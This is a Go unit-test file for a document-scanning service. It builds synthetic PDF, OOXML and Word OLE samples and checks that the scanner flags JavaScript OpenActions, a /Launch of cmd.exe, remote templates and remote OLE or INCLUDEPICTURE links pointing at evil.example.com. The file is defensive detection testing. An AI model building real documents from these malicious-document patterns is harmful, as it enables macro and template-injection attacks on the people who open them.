@@ -0,0 +1,189 @@
+package usecase
+
+import (
+	"archive/zip"
+	"bytes"
+	"compress/zlib"
+	"reflect"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/CodeMaster482/minions-server/services/gateway/internal/scan/models"
+)
+
+// pdfWithStreams собирает PDF, в котором каждая часть лежит в отдельном сжатом потоке
+func pdfWithStreams(t *testing.T, streams ...[]byte) []byte {
+	t.Helper()
+
+	var pdf bytes.Buffer
+	pdf.WriteString("%PDF-1.7\n")
+	for i, stream := range streams {
+		var compressed bytes.Buffer
+		zw := zlib.NewWriter(&compressed)
+		if _, err := zw.Write(stream); err != nil {
+			t.Fatalf("zlib: %v", err)
+		}
+		zw.Close()
+
+		pdf.WriteString(strings.Repeat(" ", i) + "<< /Filter /FlateDecode >>\nstream\n")
+		pdf.Write(compressed.Bytes())
+		pdf.WriteString("\nendstream\n")
+	}
+	pdf.WriteString("%%EOF\n")
+
+	return pdf.Bytes()
+}
+
+// ooxmlWithParts собирает zip с частями документа в указанном порядке
+func ooxmlWithParts(t *testing.T, parts ...[2]string) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for _, part := range append([][2]string{{"[Content_Types].xml", "<Types/>"}}, parts...) {
+		w, err := zw.Create(part[0])
+		if err != nil {
+			t.Fatalf("zip: %v", err)
+		}
+		w.Write([]byte(part[1]))
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatalf("zip: %v", err)
+	}
+
+	return buf.Bytes()
+}
+
+func TestAnalyzePDF(t *testing.T) {
+	filler := bytes.Repeat([]byte{' '}, maxDocumentTextBytes/2+1)
+
+	tests := []struct {
+		name    string
+		content []byte
+		want    models.DocumentAnalysis
+	}{
+		{
+			name:    "escaped name in compressed stream",
+			content: pdfWithStreams(t, []byte("<< /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>")),
+			want:    models.DocumentAnalysis{Format: models.DocumentFormatPDF, JavaScript: true, OpenAction: true},
+		},
+		{
+			name:    "launch in plain text",
+			content: []byte("%PDF-1.4\n<< /Type /Action /S /Launch /F (cmd.exe) >>\n%%EOF"),
+			want:    models.DocumentAnalysis{Format: models.DocumentFormatPDF, Launch: true},
+		},
+		{
+			// Первые два потока исчерпывают лимит распаковки, третий не читается
+			name:    "total inflate limit",
+			content: pdfWithStreams(t, filler, filler, []byte(strings.Repeat("% padding ", 100)+"/JavaScript")),
+			want:    models.DocumentAnalysis{Format: models.DocumentFormatPDF},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			analysis, _ := analyzePDF(tt.content)
+			if !reflect.DeepEqual(*analysis, tt.want) {
+				t.Errorf("analysis = %+v, want %+v", *analysis, tt.want)
+			}
+		})
+	}
+}
+
+func TestAnalyzeOOXML(t *testing.T) {
+	rels := `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
+		`Target="http://evil.example.com/t.dotm" TargetMode="External"/></Relationships>`
+
+	// Текст документа больше лимита распаковки и идёт в архиве первым: связи и макросы всё равно разбираются
+	content := ooxmlWithParts(t,
+		[2]string{"word/document.xml", strings.Repeat("a", maxDocumentTextBytes+1)},
+		[2]string{"word/_rels/settings.xml.rels", rels},
+		[2]string{"word/vbaProject.bin", "not a compound file"},
+	)
+
+	analysis, text, err := analyzeOOXML(content)
+	if err != nil {
+		t.Fatalf("analyzeOOXML: %v", err)
+	}
+	if !analysis.HasMacros {
+		t.Error("HasMacros = false, want true")
+	}
+	if !analysis.ExternalTemplate {
+		t.Error("ExternalTemplate = false, want true")
+	}
+	if !strings.Contains(text, "http://evil.example.com/t.dotm") {
+		t.Error("template target is missing from document text")
+	}
+	if len(text) > maxDocumentTextBytes+len("http://evil.example.com/t.dotm\n") {
+		t.Errorf("len(text) = %d, exceeds inflate limit", len(text))
+	}
+}
+
+// utf16le кодирует строку так, как её хранят потоки Word
+func utf16le(s string) []byte {
+	var b []byte
+	for _, r := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(r), byte(r>>8))
+	}
+
+	return b
+}
+
+func TestInspectOLEStream(t *testing.T) {
+	tests := []struct {
+		name   string
+		stream string
+		data   []byte
+		want   models.DocumentAnalysis
+	}{
+		{
+			name:   "remote template in table stream",
+			stream: "1Table",
+			data:   append([]byte{0x02, 0x00}, utf16le(`\\files.example.com\share\normal.dotm`)...),
+			want: models.DocumentAnalysis{
+				ExternalTemplate: true,
+				ExternalLinks:    []models.DocumentLink{{Type: "attachedTemplate", Target: `\\files.example.com\share\normal.dotm`}},
+			},
+		},
+		{
+			name:   "include field and remote link field",
+			stream: "WordDocument",
+			data: []byte("\x13 INCLUDEPICTURE \"http://evil.example.com/p.png\" \\d \x14\x15" +
+				"\x13 LINK Excel.Sheet.8 \"\\\\\\\\evil.example.com\\\\x.xls\" \x14\x15"),
+			want: models.DocumentAnalysis{
+				RemoteOLE: true,
+				ExternalLinks: []models.DocumentLink{
+					{Type: "includePicture", Target: "http://evil.example.com/p.png"},
+					{Type: "oleObject", Target: `\\evil.example.com\x.xls`},
+				},
+			},
+		},
+		{
+			name:   "local link field",
+			stream: "WordDocument",
+			data:   []byte("\x13 LINK Excel.Sheet.8 \"C:\\\\data\\\\x.xls\" \x14\x15"),
+			want:   models.DocumentAnalysis{},
+		},
+		{
+			name:   "url moniker of linked object",
+			stream: "\x01Ole",
+			data:   append([]byte{0x01, 0x00, 0x00, 0x02}, utf16le("http://evil.example.com/obj.sct")...),
+			want: models.DocumentAnalysis{
+				RemoteOLE:     true,
+				ExternalLinks: []models.DocumentLink{{Type: "oleObject", Target: "http://evil.example.com/obj.sct"}},
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var analysis models.DocumentAnalysis
+			var text strings.Builder
+			inspectOLEStream(&analysis, tt.stream, tt.data, &text)
+			if !reflect.DeepEqual(analysis, tt.want) {
+				t.Errorf("analysis = %+v, want %+v", analysis, tt.want)
+			}
+		})
+	}
+}